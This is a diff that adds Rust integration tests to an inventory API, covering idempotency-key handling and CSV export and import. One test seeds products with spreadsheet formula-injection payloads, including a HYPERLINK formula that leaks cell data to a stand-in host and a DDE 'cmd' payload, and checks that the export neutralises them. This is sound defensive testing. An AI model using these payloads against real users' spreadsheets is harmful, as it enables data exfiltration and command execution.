@@ -667,3 +667,272 @@ async fn a_csv_with_bad_rows_imports_nothing_and_names_each_line() {
         .await
         .expect_problem(400);
 }
+
+async fn post_keyed(api: &Api, path: &str, key: &str, body: &Value) -> testkit::Reply {
+    Api::send(
+        api.request(Method::POST, path)
+            .header("idempotency-key", key)
+            .json(body),
+    )
+    .await
+}
+
+#[tokio::test]
+async fn a_retried_adjustment_is_applied_once_and_replays_the_first_answer() {
+    let (sys, admin, staff, _) = system().await;
+    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
+    let id = sys.product_id(&staff, "KEYED", 100, 10).await;
+    let body = json!({"product_id": id, "delta": 5, "reason": "received", "note": "pallet 7"});
+    let first = post_keyed(&inv, "/api/inventory/adjustments", "delivery-7", &body)
+        .await
+        .expect(201);
+    assert_eq!(first.header("idempotent-replayed"), None);
+    // The same body with its keys in another order is the same request.
+    let reordered = json!({"note": "pallet 7", "reason": "received", "delta": 5, "product_id": id});
+    let again = post_keyed(&inv, "/api/inventory/adjustments", "delivery-7", &reordered)
+        .await
+        .expect(201);
+    assert_eq!(again.header("idempotent-replayed"), Some("true"));
+    assert_eq!(again.body, first.body, "the first answer, byte for byte");
+    // Twenty more at once change nothing either.
+    let retries =
+        (0..20).map(|_| post_keyed(&inv, "/api/inventory/adjustments", "delivery-7", &body));
+    for reply in futures::future::join_all(retries).await {
+        assert_eq!(
+            reply.expect(201).body["movement"]["id"],
+            first.body["movement"]["id"]
+        );
+    }
+    assert_eq!(sys.stock_of(&staff, &id).await.0, 15);
+    let ledger = inv
+        .get(&format!("/api/inventory/movements?product_id={id}"))
+        .await
+        .expect(200);
+    assert_eq!(
+        ledger.body["items"].as_array().unwrap().len(),
+        2,
+        "initial stock + one adjustment"
+    );
+    // The same key with another body is refused and changes nothing.
+    let other = json!({"product_id": id, "delta": 6, "reason": "received", "note": "pallet 7"});
+    let refused = post_keyed(&inv, "/api/inventory/adjustments", "delivery-7", &other)
+        .await
+        .expect_problem(422);
+    assert_eq!(refused.body["errors"][0]["field"], "Idempotency-Key");
+    assert_eq!(sys.stock_of(&staff, &id).await.0, 15);
+    // Keys belong to their user: another staff member's same key is a new request.
+    let admin = sys.api(Svc::Inventory).with_token(&admin.token);
+    post_keyed(&admin, "/api/inventory/adjustments", "delivery-7", &body)
+        .await
+        .expect(201);
+    assert_eq!(sys.stock_of(&staff, &id).await.0, 20);
+}
+
+#[tokio::test]
+async fn a_kept_conflict_replays_and_bad_keys_are_refused() {
+    let (sys, _, staff, _) = system().await;
+    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
+    let id = sys.product_id(&staff, "SHORT", 100, 3).await;
+    let take = json!({"product_id": id, "delta": -5, "reason": "damaged"});
+    let first = post_keyed(&inv, "/api/inventory/adjustments", "write-off-1", &take)
+        .await
+        .expect_problem(409);
+    inv.post(
+        "/api/inventory/adjustments",
+        json!({"product_id": id, "delta": 10, "reason": "received"}),
+    )
+    .await
+    .expect(201);
+    // The first answer was a 409; a retry with the same key gets that answer, not a new try.
+    let replayed = post_keyed(&inv, "/api/inventory/adjustments", "write-off-1", &take)
+        .await
+        .expect_problem(409);
+    assert_eq!(replayed.header("idempotent-replayed"), Some("true"));
+    assert_eq!(replayed.body["detail"], first.body["detail"]);
+    assert_ne!(replayed.body["request_id"], first.body["request_id"]);
+    assert_eq!(sys.stock_of(&staff, &id).await.0, 13);
+    // A request refused before it ran keeps nothing: fixed, the same key goes through.
+    let invalid = json!({"product_id": id, "delta": -5, "reason": "stolen"});
+    post_keyed(&inv, "/api/inventory/adjustments", "write-off-2", &invalid)
+        .await
+        .expect_problem(422);
+    post_keyed(&inv, "/api/inventory/adjustments", "write-off-2", &take)
+        .await
+        .expect(201);
+    assert_eq!(sys.stock_of(&staff, &id).await.0, 8);
+    for key in ["k".repeat(256), String::new(), "tab\there".to_string()] {
+        let reply = Api::send(
+            inv.request(Method::POST, "/api/inventory/adjustments")
+                .header("idempotency-key", key.as_bytes())
+                .json(&take),
+        )
+        .await;
+        assert_eq!(reply.status.as_u16(), 400, "{key:?}: {}", reply.text);
+    }
+    assert_eq!(sys.stock_of(&staff, &id).await.0, 8);
+}
+
+#[tokio::test]
+async fn retried_supplier_product_and_import_creates_make_one_of_each() {
+    let (sys, _, staff, _) = system().await;
+    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
+    let supplier = json!({"name": "Tea Co", "lead_time_days": 5});
+    let first = post_keyed(&inv, "/api/suppliers", "sup-1", &supplier)
+        .await
+        .expect(201);
+    let again = post_keyed(&inv, "/api/suppliers", "sup-1", &supplier)
+        .await
+        .expect(201);
+    assert_eq!(again.body["id"], first.body["id"]);
+    let listed = inv.get("/api/suppliers").await.expect(200);
+    assert_eq!(listed.body["items"].as_array().unwrap().len(), 1);
+    post_keyed(
+        &inv,
+        "/api/suppliers",
+        "sup-1",
+        &json!({"name": "Other Co"}),
+    )
+    .await
+    .expect_problem(422);
+
+    let product = json!({"sku": "K-1", "name": "Keyed", "price_cents": 100, "initial_stock": 4});
+    let made = post_keyed(&inv, "/api/products", "prod-1", &product)
+        .await
+        .expect(201);
+    let remade = post_keyed(&inv, "/api/products", "prod-1", &product)
+        .await
+        .expect(201);
+    assert_eq!(remade.body["id"], made.body["id"]);
+    assert_eq!(remade.header("etag"), Some("\"1\""));
+    assert_eq!(remade.header("idempotent-replayed"), Some("true"));
+    // Without a key the duplicate SKU is the ordinary 409: nothing was created twice.
+    inv.post("/api/products", product.clone())
+        .await
+        .expect_problem(409);
+    // A keyed duplicate keeps its 409 (on PostgreSQL the failed INSERT is undone to a
+    // savepoint, so the answer can still be written in the same transaction).
+    post_keyed(&inv, "/api/products", "prod-2", &product)
+        .await
+        .expect_problem(409);
+    let kept = post_keyed(&inv, "/api/products", "prod-2", &product)
+        .await
+        .expect_problem(409);
+    assert_eq!(kept.header("idempotent-replayed"), Some("true"));
+    assert_eq!(kept.problem_type(), "/problems/duplicate-sku");
+    // The same key on another route is another request: 422, not the product.
+    post_keyed(&inv, "/api/suppliers", "prod-1", &supplier)
+        .await
+        .expect_problem(422);
+
+    let csv = "sku,name,price_cents,initial_stock\nIMP-1,Imported,100,5\n";
+    let import = |key: &'static str, body: &'static str| {
+        Api::send(
+            inv.request(Method::POST, "/api/products/import")
+                .header("idempotency-key", key)
+                .header("content-type", "text/csv")
+                .body(body),
+        )
+    };
+    let report = import("imp-1", csv).await.expect(200);
+    assert_eq!(report.body, json!({"created": 1, "updated": 0}));
+    let replay = import("imp-1", csv).await.expect(200);
+    assert_eq!(
+        replay.body, report.body,
+        "the first report, not `updated: 1`"
+    );
+    let imported = inv.get("/api/products?q=IMP-1").await.expect(200);
+    assert_eq!(
+        imported.body["items"][0]["version"], 1,
+        "not imported twice"
+    );
+    import("imp-1", "sku,name,price_cents\nIMP-2,Other,1\n")
+        .await
+        .expect_problem(422);
+}
+
+/// The cells of one CSV line (RFC 4180 quoting; these tests write no line breaks in cells).
+fn csv_cells(line: &str) -> Vec<String> {
+    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => cells.push(std::mem::take(&mut cell)),
+            _ => cell.push(c),
+        }
+    }
+    cells.push(cell);
+    cells
+}
+
+#[tokio::test]
+async fn export_neutralises_formula_cells_and_import_restores_them() {
+    let (sys, _, staff, _) = system().await;
+    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "'=already quoted",
+        "Plain tea",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        inv.post(
+            "/api/products",
+            json!({"sku": format!("F-{i}"), "name": name, "category": "=cmd|' /C calc'!A0",
+                   "price_cents": 100 + i, "initial_stock": i}),
+        )
+        .await
+        .expect(201);
+    }
+    let export = Api::send(inv.request(Method::GET, "/api/products/export"))
+        .await
+        .expect(200);
+    let rows: Vec<Vec<String>> = export.text.lines().skip(1).map(csv_cells).collect();
+    assert_eq!(rows.len(), names.len());
+    let triggers = ['=', '+', '-', '@', '\t', '\r'];
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(triggers),
+                "formula cell exported: {cell:?}"
+            );
+        }
+    }
+    for (row, name) in rows.iter().zip(names) {
+        let expected = if name == "Plain tea" {
+            name.to_string()
+        } else {
+            format!("'{name}")
+        };
+        assert_eq!(row[1], expected);
+        assert_eq!(row[3], "'=cmd|' /C calc'!A0");
+        // Numbers stay numbers.
+        assert!(row[5].parse::<i64>().is_ok(), "price {:?}", &row[5]);
+    }
+    // Importing the export gives the names back exactly.
+    let again = inv
+        .post_raw("/api/products/import", "text/csv", export.text)
+        .await
+        .expect(200);
+    assert_eq!(again.body, json!({"created": 0, "updated": names.len()}));
+    let listed = inv.get("/api/products?limit=100").await.expect(200);
+    let mut stored: Vec<String> = listed.body["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| {
+            assert_eq!(p["category"], "=cmd|' /C calc'!A0");
+            p["name"].as_str().unwrap().to_string()
+        })
+        .collect();
+    stored.sort();
+    let mut expected: Vec<String> = names.iter().map(|n| n.to_string()).collect();
+    expected.sort();
+    assert_eq!(stored, expected);
+}
